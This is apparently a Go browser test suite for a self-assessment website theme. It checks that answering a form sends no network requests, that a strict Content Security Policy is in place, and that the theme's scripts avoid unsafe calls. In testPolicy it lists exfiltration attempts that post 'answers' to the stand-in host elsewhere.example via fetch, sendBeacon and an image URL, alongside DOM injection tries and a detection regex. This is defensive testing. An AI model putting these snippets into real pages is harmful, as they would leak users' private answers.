package main

import (
	"context"
	"io/fs"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
)

// A witness notes every request that a tab makes.
type witness struct {
	mu   sync.Mutex
	seen []string
}

// watchRequests begins to note requests. What a page hands to its own reader as
// a file goes nowhere, and the browser looks for the page's icon when it likes.
func (b *tab) watchRequests() *witness {
	b.Helper()
	w := &witness{}
	icon := ask[string](b, `document.querySelector("link[rel=icon]").href`)
	note := func(url string) {
		w.mu.Lock()
		defer w.mu.Unlock()
		if !strings.HasPrefix(url, "blob:") && url != icon {
			w.seen = append(w.seen, url)
		}
	}
	if err := chromedp.Listen(b.ctx, func(event any) {
		switch e := event.(type) {
		case *network.EventRequestWillBeSent:
			note(e.Request.URL)
		case *network.EventWebSocketCreated:
			note(e.URL)
		case *network.EventWebTransportCreated:
			note(e.URL)
		}
	}); err != nil {
		b.Fatal(err)
	}
	return w
}

func (w *witness) requests() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.seen
}

// testPrivate does all that can be done on the pages of the real
// self-assessments, and nothing is sent.
func testPrivate(t *testing.T, chrome context.Context, home string) {
	for _, id := range realAssessments(t) {
		t.Run(filepath.Base(id), func(t *testing.T) {
			f := openForm(openTab(t, chrome, home), "..", id)
			f.clipboard(browser.PermissionSettingGranted)
			examples := f.examples()
			w := f.watchRequests()
			f.see()
			f.answer(examples[0].answers...)
			f.see()
			f.clickButton("#result", "Copy a link to my answers")
			f.await(says("#result [role=status]", "Copied"))
			name, content := f.download(func() { f.clickButton("#result", "Save to a file") })
			if ask[bool](f.tab, says("#result button", "Add a reminder to my calendar")) {
				f.download(func() { f.clickButton("#result", "Add a reminder to my calendar") })
			}
			f.clickButton("#result", "Start again")
			f.answer(examples[1].answers...)
			f.see()
			f.clear()
			f.load(content)
			f.changeHash("#answers=gone:yes")
			f.expect(says("#notices", "The link holds no answers"))
			if seen := w.requests(); len(seen) > 0 {
				t.Errorf("requests: %q", seen)
			}
			f.open(id + "/")
			if len(w.requests()) == 0 {
				t.Error("the test sees no requests at all")
			}
			if name != path.Base(id)+".json" {
				t.Errorf("saved as %s", name)
			}
			f.checkFaults(id)
		})
	}
}

// testPolicy tries what the page's policy forbids. Each attempt is told on the
// console.
func testPolicy(f *form) {
	policy := ask[string](f.tab, `document.querySelector("meta[http-equiv=Content-Security-Policy]").content`)
	for _, directive := range []string{
		"default-src 'none'", "script-src 'self'", "style-src 'self'", "connect-src 'none'", "form-action 'none'", "base-uri 'none'",
		"require-trusted-types-for 'script'", "trusted-types 'none'",
	} {
		if !strings.Contains("; "+policy+";", "; "+directive+";") {
			f.Errorf("no %s in %s", directive, policy)
		}
	}
	f.expect(
		`[...document.querySelectorAll("script")].every(s => s.type === "application/json" ? !s.src : s.src && !s.textContent.trim())`,
		`[...document.querySelectorAll("*")].every(e => e.getAttributeNames().every(n => !n.startsWith("on") && n !== "style"))`,
		`![...document.querySelectorAll("style")].length`,
		`new URL(document.querySelector("script[src]").src).origin === location.origin`,
	)
	f.checkFaults("policy")
	for _, attempt := range []string{
		`fetch(location.href).then(() => false, () => true)`,
		`fetch("https://elsewhere.example/", {method: "POST", body: "answers", mode: "no-cors"}).then(() => false, () => true)`,
		`(navigator.sendBeacon("https://elsewhere.example/", "answers"), true)`,
		`(() => { try { document.body.innerHTML = "<b>x</b>"; return false; } catch { return true; } })()`,
		`(() => { try { document.write("<b>x</b>"); return false; } catch { return true; } })()`,
		`(() => { const s = document.createElement("script"); s.append("window.ran = 1"); document.body.append(s); return !window.ran; })()`,
		`new Promise(done => { const i = new Image(); i.onerror = () => done(true); i.onload = () => done(false); i.src = "https://elsewhere.example/?answers"; })`,
	} {
		f.expect(attempt)
		if faults := strings.Join(f.takeFaults(), "\n"); !strings.Contains(faults, "Content Security Policy") && !strings.Contains(faults, "This document requires 'Trusted") {
			f.Errorf("%s: told is %q", attempt, faults)
		}
	}
}

// unsafeCalls are the ways to make HTML or code of a text, and to reach other
// computers.
var unsafeCalls = regexp.MustCompile(`\b(innerHTML|outerHTML|insertAdjacentHTML|setHTML\w*|createContextualFragment|DOMParser|parseFromString|srcdoc|` +
	`document\.write\w*|eval|Function\(|fetch|XMLHttpRequest|sendBeacon|WebSocket|EventSource|importScripts|Worker|cookie)\b|\bimport\(|\.src\b *=`)

// TestScriptsAreSafe reads the scripts of the theme: none has a use for what is
// unsafe.
func TestScriptsAreSafe(t *testing.T) {
	scripts := 0
	err := fs.WalkDir(os.DirFS("../themes/rapport/assets"), ".", func(name string, _ fs.DirEntry, err error) error {
		if err != nil || path.Ext(name) != ".ts" {
			return err
		}
		scripts++
		if name == "offline/worker.ts" {
			return nil // is no page's: it fetches what the browser asks it for
		}
		source := read(t, filepath.Join("../themes/rapport/assets", name))
		source = strings.ReplaceAll(source, "script.src = policy.createScriptURL(", "") // of pieces of the index, and nothing else
		if found := unsafeCalls.FindString(source); found != "" {
			t.Errorf("%s uses %s", name, found)
		}
		return nil
	})
	if err != nil || scripts < 5 {
		t.Errorf("read %d scripts: %v", scripts, err)
	}
}
